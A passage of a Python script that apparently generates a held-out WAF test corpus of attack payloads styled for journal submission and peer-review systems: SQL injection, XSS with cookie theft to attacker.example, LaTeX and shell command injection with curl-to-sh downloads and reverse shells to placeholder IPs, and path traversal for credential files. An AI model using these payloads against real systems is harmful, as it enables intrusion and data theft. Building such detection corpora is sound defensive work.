"""Attack held-out corpus for the WAF: academic publishing and peer review.

Each value is a payload a hostile user could type into a field of a journal
submission / peer-review / catalogue system, written in that system's own
notations (TeX, BibTeX, JATS XML, DOIs, ORCID iDs, catalogue query syntax,
decision-letter templates, availability statements).  The class of a value is
"<context>-<technique>[+<encoding>]": the context says where the vulnerable
application puts the value (concatenated into SQL, a shell line, a file path,
a fetched URL, a server-side template, HTML without escaping, a mail/log/HTTP
header, an LDAP filter or XPath query ...).  Classes starting with "plain-"
are bare payloads without domain wrapping.

All literals were hand-written for this corpus from an understanding of how
each technique works; nothing was copied from payload lists.  A minority of
values per category come from small template functions over hand-written
pools, driven by random.Random(SEED) so output is byte-identical on every run.
Attacker infrastructure: attacker.example, *.attacker.example,
203.0.113.0/24, 198.51.100.0/24.  Secrets are fake placeholders.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path

SEED = 6802
PREFIX = "ha68"
MAX_LEN = 1800

# target size per category (literals first, templates fill the rest)
TARGETS = {
    "sqli": 75, "xss": 75, "cmdi": 70, "traversal": 52, "ssrf": 52,
    "code": 80, "nosqli": 25, "crlf": 32, "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# SQL injection: catalogue search, manuscript ids, ORCID/DOI lookups, sort
# keys, BibTeX import, profile updates ...
# ---------------------------------------------------------------------------
SQLI = [
    ("search-union", "graph%' UNION SELECT login, pw_hash, email, NULL FROM editor_accounts-- -"),
    ("search-union", "Schlafstörung' UNION ALL SELECT table_schema, table_name, NULL FROM information_schema.tables WHERE table_schema NOT IN ('mysql','sys')#"),
    ("orcid-boolean-blind", "0000-0002-4607-5396' AND SUBSTRING((SELECT password FROM users WHERE role='editor' LIMIT 1),1,1)>'m'-- "),
    ("orcid-time-blind", "0000-0001-1105-6534' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("msid-boolean", "4412 OR 1=1"),
    ("msid-union", "4412 UNION SELECT id, reviewer_email, review_text, NULL FROM reviews WHERE anonymous=true"),
    ("year-union", "2023 UNION ALL SELECT NULL, CONCAT(username,':',password), NULL FROM users"),
    ("sort-boolean-blind", "(CASE WHEN (SELECT COUNT(*) FROM reviewers WHERE is_admin=1)>0 THEN title ELSE doi END)"),
    ("msid-stacked", "JGAA-2023-0412'; EXEC xp_cmdshell 'nslookup mssql.attacker.example';--"),
    ("keyword-error-based", "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e))-- "),
    ("author-error-based", "Okafor' AND 1=CAST((SELECT string_agg(email, ',') FROM authors) AS int)--"),
    ("doi-union", "10.7155/jgaa.00561' UNION SELECT NULL, banner FROM v$version--"),
    ("reference-oob", "x' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("search-union", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("bibtex-key-stacked", "smith2020'); DELETE FROM bib_entries WHERE owner_id<>7; --"),
    ("bibtex-insert-subquery", "@article{k1, title={Graph Learning', (SELECT password FROM users WHERE id=1), 'x')-- }, year={2021}}"),
    ("author-boolean", "O'Brien' OR '1'='1"),
    ("keyword-time-blind", "疲劳警报' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100, SLEEP(5), 0) AND 'a'='a"),
    ("msid-time-blind", "4412; IF (SELECT COUNT(*) FROM sys.sql_logins) > 0 WAITFOR DELAY '0:0:7'--"),
    ("search-union+urlenc", "%27%20UNION%20SELECT%20email%2Cpassword_hash%20FROM%20users--%20"),
    ("search-union+comment-space", "'/**/UNION/**/SELECT/**/orcid,api_token/**/FROM/**/integrations#"),
    ("title-union+case-mix", "x' uNiOn aLl SeLeCt username, password FrOm editors-- -"),
    ("search-boolean+double-urlenc", "%2527%2520OR%25201%253D1--%2520"),
    ("keyword-union+versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ user(),version()-- -"),
    ("affiliation-boolean-blind", "ETH Zürich' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>12)='x"),
    ("abstract-stacked-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/p.sh | sh';--"),
    ("datastmt-union-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/uploads/c.php'-- "),
    ("review-oob-dirtree", r"'; DECLARE @q varchar(300); SET @q='\\'+(SELECT TOP 1 password FROM reviewers)+'.oob.attacker.example\a'; EXEC master..xp_dirtree @q;--"),
    ("doi-union-file-read", "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -"),
    ("sort-time-blind", "title,(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("msid-union+scientific-notation", "0.1e1UNION SELECT token,2 FROM api_keys-- -"),
    ("search-boolean-json-function", "' OR JSON_EXTRACT('{\"a\":1}', '$.a') = 1-- "),
    ("search-error-based", "' HAVING 1=1--"),
    ("author-error-based", "' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("abstract-insert-subquery", "We propose a streaming method.', (SELECT GROUP_CONCAT(email SEPARATOR ';') FROM users), 'en')-- "),
    ("profile-second-order", "editor_in_chief'-- "),
    ("affiliation-update-injection", "Union College', role='admin', is_verified=1 WHERE id=17-- "),
    ("msid-time-blind", "1;SELECT CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN pg_sleep(5) END--"),
    ("keyword-boolean-blind", "x' AND (SELECT substr(sql,1,1) FROM sqlite_master WHERE type='table' LIMIT 1)='C"),
    ("search-heavy-query", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("doi-time-blind", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)--"),
    ("orcid-error-based", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("keyword-error-based", "' OR UPDATEXML(1,CONCAT(0x2e,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)),1)-- -"),
    ("author-union+char-function", "' UNION SELECT login,password FROM users WHERE login=CHAR(97,100,109,105,110)-- "),
    ("author-boolean+hex-literal", "nobody' OR login=0x61646d696e-- "),
    ("bibtex-year-time-blind", "@article{x, title={Streaming}, year={2021 AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL}}"),
    ("search-union", "title:\"x') UNION SELECT id, token FROM api_keys--\""),
    ("letter-stacked-insert", "'; INSERT INTO editors(login, pw_hash, role) VALUES ('ghost', 'placeholder-hash', 'admin');--"),
    ("msid-stacked-drop", "2021'; DROP TABLE submissions;-- "),
    ("msid-boolean-blind", "4412 AND (SELECT COUNT(*) FROM reviewers)>100"),
    ("abstract-stacked-update", "We study streaming graphs.\n'); UPDATE manuscripts SET status='accepted' WHERE id=4412;--"),
    ("author-boolean+fullwidth", "Okafor＇ OR ＇1＇=＇1"),
    ("title-boolean+html-entities", "Streaming&#39; OR 1=1-- "),
    ("keyword-union+unicode-escape", r"\u0027 UNION SELECT username, password FROM users--"),
    ("search-boolean-blind", "sleep%' AND ASCII(SUBSTR((SELECT password FROM users WHERE login='admin'),1,1))>80 AND '%'='"),
    ("doi-error-based", "10.5281/zenodo.7712044' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
    ("orcid-stacked", "0000-0002-4350-1097'; ALTER USER postgres WITH PASSWORD 'changeme-placeholder';--"),
    ("review-oob-dblink", "'||(SELECT dblink_connect('host=pg.attacker.example user='||current_user||' dbname=x'))||'"),
    ("search-union", "') UNION SELECT column_name, data_type FROM information_schema.columns WHERE table_name='users'--"),
    ("keyword-boolean+comment-space", "x'/**/OR/**/'a'/**/=/**/'a"),
    ("msid-boolean+urlenc", "4412%20OR%201%3D1"),
    ("msid-union+whitespace-alt", "4412\tUNION\nSELECT\tlogin,\tpassword\nFROM\tusers"),
    ("sort-error-blind", "(SELECT IF((SELECT SUBSTR(password,1,1) FROM users LIMIT 1)='a',(SELECT 1 UNION SELECT 2),1))"),
    ("pagesize-error-based", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("review-boolean-like", "Minor revision' OR reviewer_id LIKE '%"),
    ("plain-boolean", "' OR 1=1-- "),
    ("plain-union", "1 UNION SELECT NULL,NULL,NULL--"),
    ("plain-comment-truncation", "admin'--"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("plain-stacked", "'; WAITFOR DELAY '0:0:5'--"),
    ("plain-boolean", "\" OR \"\"=\""),
    ("plain-error-based", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-order-by-probe", "1 ORDER BY 10--"),
]

SQLI_PREFIXES = [
    ("orcid", ["0000-0002-2141-5761", "0000-0003-3822-9014", "0000-0001-0594-4332"]),
    ("doi", ["10.1016/j.sleep.2019.02.004", "10.5281/zenodo.8812407", "10.1145/3620678.3624663"]),
    ("author", ["Nguyen", "Lindqvist", "Haddad", "Okonjo"]),
    ("keyword", ["alarm fatigue", "union membership", "sleep onset"]),
]
SQLI_TAILS = [
    ("time-blind", "' AND 1=(SELECT 1 FROM pg_sleep({n}))--"),
    ("time-blind", "' AND SLEEP({n})-- -"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM {tbl})>{k}-- "),
    ("union", "' UNION SELECT {cols} FROM {tbl}-- -"),
    ("error-based", "' AND 1=CAST((SELECT {col} FROM {tbl} LIMIT 1) AS int)--"),
]
SQLI_TABLES = [("users", "password"), ("reviewers", "email"), ("api_keys", "token"), ("editor_accounts", "pw_hash")]


def tpl_sqli(rng):
    ctx, pres = rng.choice(SQLI_PREFIXES)
    tech, tail = rng.choice(SQLI_TAILS)
    tbl, col = rng.choice(SQLI_TABLES)
    cols = ", ".join(["NULL"] * rng.randint(0, 2) + [col])
    return f"{ctx}-{tech}", rng.choice(pres) + tail.format(n=rng.randint(4, 12), tbl=tbl, k=rng.randint(1, 50), cols=cols, col=col)


# ---------------------------------------------------------------------------
# XSS: titles, abstracts (MathJax), author names, reviews (markdown), JATS
# rendered via XSLT, SVG figures, reflected search boxes ...
# ---------------------------------------------------------------------------
XSS = [
    ("title-script-tag", "Graph Neural Networks for Citation Graphs<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("author-event-handler", "Okafor, N.<img src=x onerror=alert(document.domain)>"),
    ("abstract-svg-onload", r"We show that $x_i \le \alpha$ for all $i$. <svg onload=location='//attacker.example/?'+btoa(document.cookie)>"),
    ("doi-javascript-uri", "javascript:fetch('//attacker.example/t?'+localStorage.getItem('token'))"),
    ("jats-javascript-uri", '<ext-link ext-link-type="uri" xlink:href="javascript:alert(document.cookie)">Data set S1</ext-link>'),
    ("jats-mathml-href", '<inline-formula><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(document.domain)"><mi>x</mi><mo>≤</mo><mi>α</mi></math></inline-formula>'),
    ("bibtex-javascript-uri", "@misc{data2023,\n  title = {Replication data},\n  url = {javascript:alert(document.cookie)},\n  year = {2023}\n}"),
    ("keyword-attribute-breakout", 'deep learning" autofocus onfocus="alert(document.domain)'),
    ("search-js-string-breakout", "';alert(document.domain);//"),
    ("search-script-breakout", "union find</script><script>alert(document.cookie)</script>"),
    ("review-markdown-link", "Siehe [die ergänzenden Daten](javascript:alert(document.cookie)) für die korrigierte Tabelle."),
    ("review-markdown-image", '![Figure 3 corrected](x" onerror="alert(document.domain))'),
    ("cover-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.location='//attacker.example/?'+parent.document.cookie&lt;/script&gt;\" width=0 height=0></iframe>"),
    ("reference-data-uri", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+">Full text (PDF)</a>'),
    ("abstract-mathjax-href", r"The bound $\href{javascript:alert(document.domain)}{\alpha(n)}$ is tight, see Appendix A."),
    ("title-angular-csti", "Streaming {{constructor.constructor('alert(document.cookie)')()}} Union-Find"),
    ("abstract-vue-csti", "We evaluate {{_c.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}} on three datasets."),
    ("review-style-injection", "<style>@import url('https://attacker.example/leak.css');</style>Overall a solid paper."),
    ("letter-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/journal-login">'),
    ("letter-base-hijack", '<base href="https://attacker.example/">Dear Dr. Okafor, please see the attached reviews.'),
    ("review-form-hijack", '<form action="https://attacker.example/collect" method="post"><p>Session expired. Re-enter your password to view the reviews:</p><input type="password" name="pw"><button>Continue</button></form>'),
    ("author-details-ontoggle", "Åberg, J.<details open ontoggle=alert(document.cookie)>"),
    ("affiliation-audio-onerror", "KAIST, Daejeon<audio src=/ onerror=alert(document.domain)>"),
    ("keyword-input-autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("reference-javascript-uri+html-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.domain)">doi:10.7155/jgaa.00561</a>'),
    ("search-script-tag+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-innerhtml+unicode-escape", r"\u003cimg src=x onerror=alert(document.domain)\u003e"),
    ("title-script-tag+case-mix", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("doi-javascript-uri+entity-tab", '<a href="jav&#x09;ascript:alert(document.domain)">10.1016/j.sleep.2019.02.004</a>'),
    ("figure-svg-animate", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("supplement-object-data", '<object data="javascript:alert(document.domain)"></object>'),
    ("search-js-template-literal", "${alert(document.cookie)}"),
    ("abstract-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("title-title-breakout", "</title><img src=x onerror=alert(document.domain)>"),
    ("review-noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>">'),
    ("keyword-unquoted-attribute", "x onmouseover=alert(document.cookie)"),
    ("search-json-script-breakout", '"}</script><script>alert(document.domain)</script>'),
    ("jats-xhtml-script", '<graphic xlink:href="fig1.tif"/><script xmlns="http://www.w3.org/1999/xhtml">alert(document.domain)</script>'),
    ("figure-svg-script", '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>fetch("//attacker.example/f?c="+document.cookie)</script><rect width="400" height="300" fill="#eee"/><text x="20" y="40">Figure 2</text></svg>'),
    ("letter-marquee-onstart", "<marquee onstart=alert(document.domain)>Your manuscript has been accepted!</marquee>"),
    ("reference-javascript-uri+named-entity", '<a href="javascript&colon;alert(document.domain)">PMID 31042619</a>'),
    ("author-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("affiliation-dynamic-import", "<img src=x onerror=\"import('//attacker.example/x.js')\">"),
    ("figure-svg-xlink", '<svg><a xlink:href="javascript:alert(document.domain)"><text x="20" y="20">Fig. 1 (click to enlarge)</text></a></svg>'),
    ("bibtex-note-html", "@article{wong2022,\n  author = {Wong, Tsz-Ching},\n  title = {Notebook extensions},\n  note = {<img src=x onerror=alert(document.domain)>},\n  year = {2022}\n}"),
    ("orcid-script-src", '0000-0002-2141-5761"><script src=//attacker.example/o.js></script>'),
    ("letter-onmouseover", "<a href=\"https://journal.example/review/4412\" onmouseover=\"fetch('//attacker.example/'+document.cookie)\">Open the review portal</a>"),
    ("supplement-iframe-javascript", '<iframe src="javascript:alert(document.domain)"></iframe>'),
    ("search-js-string-breakout", "'-alert(document.domain)-'"),
    ("jats-comment-breakout", "--><script>alert(document.domain)</script><!--"),
    ("jats-cdata-breakout", "]]><script>alert(document.domain)</script><![CDATA["),
    ("review-custom-element", "<xss onpointerenter=alert(document.domain) style=display:block;height:100vh>Reviewer 2 comments</xss>"),
    ("search-svg-onload+double-urlenc", "%253Csvg%2520onload%253Dalert(document.domain)%253E"),
    ("reference-javascript-uri-whitespace", '<a href=" javascript:alert(document.domain)">Download</a>'),
    ("cover-formaction", '<form><button formaction="javascript:alert(document.domain)">Submit revision</button></form>'),
    ("title-svg-onload+html-entities", "&lt;svg onload=alert(document.domain)&gt;"),
    ("keyword-select-breakout", "</select><img src=x onerror=alert(document.domain)>"),
    ("orcid-javascript-uri+case-mix", "JaVaScRiPt:alert(document.domain)"),
    ("search-css-animation-event", '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(document.domain)">x</b>'),
    ("abstract-video-source", "<video><source onerror=alert(document.domain)></video>"),
    ("keyword-string-concat-bypass", "<img src=x onerror=\"window['al'+'ert'](document.domain)\">"),
    ("author-svg-onload+slash-separator", "Haddad, R.<svg/onload=alert(document.domain)>"),
    ("review-markdown-html-mix", "**Major issues**\n\n1. Table 2 is wrong.\n2. <img src=x onerror=fetch('//attacker.example/r?'+document.cookie)>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-event-handler", "<img src=x onerror=alert(1)>"),
    ("plain-attribute-breakout", "\"><svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
    ("plain-event-handler", "<body onload=alert(document.domain)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
]

XSS_WRAPS = [
    ("title", "Streaming Union-Find {p}"),
    ("author", "O'Connor, S.{p}"),
    ("keyword", "alarm fatigue{p}"),
    ("review", "The authors should cite Okafor (2021). {p}"),
    ("affiliation", "Union College, Schenectady{p}"),
]
XSS_PAYLOADS = [
    ("event-handler", "<img src=/x.png onerror=\"fetch('//attacker.example/'+document.cookie)\">"),
    ("svg-onload", "<svg onload=alert(document.domain)>"),
    ("script-tag", "<script src=https://attacker.example/{n}.js></script>"),
    ("event-handler", "<body onpageshow=alert(document.domain)>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\">"),
]


def tpl_xss(rng):
    ctx, wrap = rng.choice(XSS_WRAPS)
    tech, pay = rng.choice(XSS_PAYLOADS)
    return f"{ctx}-{tech}", wrap.format(p=pay.format(n=rng.randint(1, 99)))


# ---------------------------------------------------------------------------
# Command injection: LaTeX compilation with shell escape, figure conversion,
# pandoc/ghostscript/git/curl command lines built from filenames, DOIs, repo
# URLs and export formats.
# ---------------------------------------------------------------------------
CMDI = [
    ("latex-write18", r"\immediate\write18{curl -s http://203.0.113.7/k.sh | sh}"),
    ("latex-input-pipe", r'\input{|"cat /etc/passwd"}'),
    ("latex-write18-readback", r"\documentclass{article}\begin{document}\immediate\write18{id > /tmp/o.txt}\input{/tmp/o.txt}\end{document}"),
    ("latex-write18-reverse-shell", r"\def\x{\immediate\write18}\x{bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'}"),
    ("latex-directlua", r'\directlua{os.execute("wget -qO- http://attacker.example/s | sh")}'),
    ("latex-directlua-popen", r'\directlua{tex.print(io.popen("uname -a"):read("*a"))}'),
    ("latex-write18+catcode", r"\catcode`\@=0 @immediate@write18{nslookup `whoami`.x.attacker.example}"),
    ("latex-shellesc", r"\usepackage{shellesc}\ShellEscape{touch /tmp/pwned}"),
    ("filename-semicolon", "Überarbeitung_v2.docx; curl http://203.0.113.5/x | bash"),
    ("figure-quote-breakout", 'figure1.png"; sleep 10; echo "'),
    ("filename-subshell", "$(id).tex"),
    ("filename-backtick", "`uname -a`.pdf"),
    ("repo-url-argument-injection", "--upload-pack=touch /tmp/x"),
    ("repo-url-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("repo-url-semicolon", "https://github.com/okafor-lab/streaming-uf.git; curl -s http://attacker.example/g | sh"),
    ("doi-argument-injection", "10.1234/x -o /var/www/html/shell.php https://attacker.example/shell.txt"),
    ("supplement-tar-checkpoint", "--checkpoint-action=exec=sh S2_code.sh"),
    ("supplement-newline", "S1_Table.csv\nwget http://198.51.100.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
    ("filename-ifs", "x;cat${IFS}/etc/shadow"),
    ("figure-brace-expansion", "fig2.tif;{curl,-s,http://attacker.example/b.sh}|sh"),
    ("keyword-quote-splitting", ";c'u'r\"l\" -s attacker.example/q|s\\h"),
    ("filename-printf-hex", r";$(printf '\x69\x64')"),
    ("codestmt-base64-pipe", ";echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9yIHwgc2g= | base64 -d | sh"),
    ("export-time-delay", "pdf || sleep 12 ||"),
    ("filename-windows-oob", "report.docx & nslookup %USERNAME%.win.attacker.example &"),
    ("filename-powershell", "thesis.docx; powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.40/a.ps1')\""),
    ("filename-windows-ampersand", r"report.docx & type C:\Windows\win.ini"),
    ("figure-netcat", "fig4.eps | nc 203.0.113.12 9001 -e /bin/sh"),
    ("doi-subshell-oob", "10.1016/j.sleep.2019.02.004$(curl -s attacker.example/$(hostname))"),
    ("figure-ghostscript-pipe", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id > /tmp/gs.txt) (w) file\nshowpage"),
    ("figure-imagemagick-mvg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/a.jpg\"|curl -s http://198.51.100.31/im | sh\")'\npop graphic-context"),
    ("filename-redirect-webshell", "x.pdf; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/uploads/c.php"),
    ("codestmt-crontab", "; (crontab -l; echo \"* * * * * curl -s attacker.example/c | sh\") | crontab -"),
    ("codestmt-ssh-key", "; mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaFAKEKEYPLACEHOLDER attacker@example' >> ~/.ssh/authorized_keys"),
    ("filename-subshell-sleep", "manuscript_v3$(sleep 9).docx"),
    ("figure-ping-delay", '"; ping -c 10 127.0.0.1; "'),
    ("filename-single-quote-breakout", "'; id; echo '"),
    ("repo-url-ssh-proxycommand", "ssh://-oProxyCommand=curl${IFS}attacker.example/s|sh/repo"),
    ("export-pandoc-lua-filter", "docx --lua-filter=/srv/uploads/4412/figures/filter.lua"),
    ("filename-certutil", r"x.docx | certutil -urlcache -split -f http://203.0.113.8/a.exe %TEMP%\a.exe && %TEMP%\a.exe"),
    ("figure-newline+urlenc", "fig2.tif%0acurl%20attacker.example%2Fz%7Csh"),
    ("keyword-ifs-wget", ";${IFS}wget${IFS}-q${IFS}-O-${IFS}198.51.100.3/i|sh"),
    ("filename-windows+case-mix", "proof.pdf & WhoAmI /aLL"),
    ("filename-caret-obfuscation", "proof.pdf & w^h^o^a^m^i /priv"),
    ("export-windows-env", r"pdf & type %SYSTEMROOT%\system32\drivers\etc\hosts"),
    ("codestmt-here-string+base64", ";bash<<<$(base64 -d<<<aWQ=)"),
    ("codestmt-reversed-string", ";rev<<<'hs|s/elpmaxe.rekcatta//:ptth s- lruc'|sh"),
    ("codestmt-process-substitution", ";bash <(curl -s http://attacker.example/p)"),
    ("orcid-semicolon+urlenc", "0000-0002-2180-6957%3Bid%3B"),
    ("filename-semicolon+double-urlenc", "cover.pdf%253Bwhoami"),
    ("filename-glob", ";/???/?at /???/p?ss??"),
    ("filename-env-substring", ";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("codestmt-python-reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.create_connection((\"198.51.100.14\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("codestmt-perl-reverse-shell", "&& perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"203.0.113.77:9000\");open(STDIN,\"<&\",$s);open(STDOUT,\">&\",$s);exec(\"/bin/sh -i\")'"),
    ("bibtex-latex-write18", r"@misc{x, note = {\immediate\write18{curl -s attacker.example/bib | sh}}, year = {2024}}"),
    ("filename-python-subshell", "$(python3 -c 'import os;os.system(\"id\")').pdf"),
    ("abstract-latex-write18", "We prove the bound \\(O(n\\log n)\\).\n\\immediate\\write18{env | curl -s -X POST --data-binary @- http://attacker.example/env}"),
    ("figure-density-argument", "-density 300 -write /var/www/html/x.php fig1.eps"),
    ("datastmt-and-chain", "data/raw && rm -rf /srv/journal/uploads"),
    ("latex-write18+urlenc", "%5Cimmediate%5Cwrite18%7Bid%20%3E%20/tmp/w%7D"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-and-chain", "&& cat /etc/passwd"),
    ("plain-backtick", "`id`"),
    ("plain-subshell", "$(whoami)"),
    ("plain-time-delay", "; sleep 5"),
    ("plain-or-chain", "|| uname -a"),
    ("plain-newline", "\ncat /etc/passwd"),
]

CMDI_STEMS = [("filename", ["manuscript_final.docx", "response_letter.pdf", "S3_Data.xlsx"]),
              ("figure", ["fig1.tif", "graphical_abstract.png", "figure_4b.eps"]),
              ("export", ["pdf", "jats", "docx"])]
CMDI_SEPS = [";", "|", "&&", "\n", "||"]
CMDI_CMDS = ["curl -s http://203.0.113.{o}/{w} | sh", "wget -q -O- http://attacker.example/{w} | bash",
             "nslookup {w}.attacker.example", "sleep {o}", "cat /etc/passwd | nc 198.51.100.{o} 443"]


def tpl_cmdi(rng):
    ctx, stems = rng.choice(CMDI_STEMS)
    sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS).format(o=rng.randint(2, 250), w=rng.choice(["a", "b1", "x9", "z"]))
    tech = {";": "semicolon", "|": "pipe", "&&": "and-chain", "\n": "newline", "||": "or-chain"}[sep]
    return f"{ctx}-{tech}", f"{rng.choice(stems)}{' ' if sep != chr(10) else ''}{sep}{' ' if sep != chr(10) else ''}{cmd}"


# ---------------------------------------------------------------------------
# Path traversal / local file inclusion: supplementary downloads, figure
# paths, LaTeX file inputs, JATS graphic references, ZIP entry names ...
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("supplement-dotdot", "../../../../etc/passwd"),
    ("figure-dotdot", "図表/../../../../../etc/shadow"),
    ("latex-input-absolute", r"\input{/etc/passwd}"),
    ("latex-lstinputlisting", r"\lstinputlisting{../../../../home/app/.env}"),
    ("latex-verbatiminput", r"\verbatiminput{/proc/self/environ}"),
    ("latex-openin-read", r"\newread\f \openin\f=/etc/hostname \read\f to\l \l \closein\f"),
    ("latex-includegraphics-dotdot", r"\includegraphics{../../../../var/lib/journal/uploads/4413/manuscript.pdf}"),
    ("jats-graphic-href", '<graphic xlink:href="../../../../etc/passwd"/>'),
    ("upload-zip-slip", "../../../../var/www/html/uploads/shell.php"),
    ("template-dotdot+null-byte", "../../../../../etc/passwd%00.html"),
    ("lang-dotdot", "../../../../proc/self/cwd/config/settings.py"),
    ("download-windows-backslash", r"..\..\..\..\Windows\win.ini"),
    ("download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("download-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("download-dotdot+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("download-dotdot+overlong-slash", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("download-nested-dotdot", "....//....//....//....//etc/passwd"),
    ("download-semicolon-path", "/supplementary/..;/..;/WEB-INF/web.xml"),
    ("download-windows+null-byte", r"..\..\..\boot.ini%00.pdf"),
    ("download-absolute", "/etc/shadow"),
    ("download-proc", "/proc/self/environ"),
    ("download-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("datastmt-path-dotdot", "../../../../../../home/app/.aws/credentials"),
    ("download-windows+urlenc", "..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("download-dotdot+fullwidth", "．．／．．／．．／．．／etc／passwd"),
    ("download-dotdot+percent-u", "%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("export-filename-log", "../../../../var/log/nginx/access.log"),
    ("template-dotdot", "../../templates/admin/../../../../app/config.yaml"),
    ("download-mixed-slashes", r"..\/..\/..\/..\/etc\/passwd"),
    ("upload-zip-slip-windows", r"..\..\..\inetpub\wwwroot\x.aspx"),
    ("manuscript-git-config", "../../.git/config"),
    ("download-app-config", "../../../../srv/journal/instance/production.cfg"),
    ("bibtex-file-field", "@article{x, title={Paper}, file={:../../../../etc/passwd:PDF}}"),
    ("cover-attachment-path", "attachments/../../../../../../etc/ssl/private/server.key"),
    ("download-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("download-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("latex-input-dotdot", r"\input{../../../../../../etc/passwd}"),
    ("figure-absolute-then-dotdot", "/var/www/journal/uploads/4412/../../../../../etc/passwd"),
    ("download-dotdot+partial-urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("jats-supplementary-href", '<supplementary-material id="S9"><media xlink:href="../../../../../srv/journal/.env" mimetype="text"/></supplementary-material>'),
    ("latex-include-bst", r"\bibliographystyle{../../../../../tmp/uploads/evil}"),
    ("datastmt-windows-absolute", r"C:\inetpub\wwwroot\web.config"),
    ("figure-dotdot-trailing-dot", "../../../../etc/passwd/."),
    ("lang-dotdot+double-urlenc", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", r"..\..\..\windows\win.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-dotdot", "../../../../../../../../etc/hosts"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
]

TRAV_CTX = ["supplement", "figure", "download", "export"]
TRAV_TARGETS = ["etc/passwd", "etc/group", "proc/self/cmdline", "root/.bash_history", "srv/journal/.env",
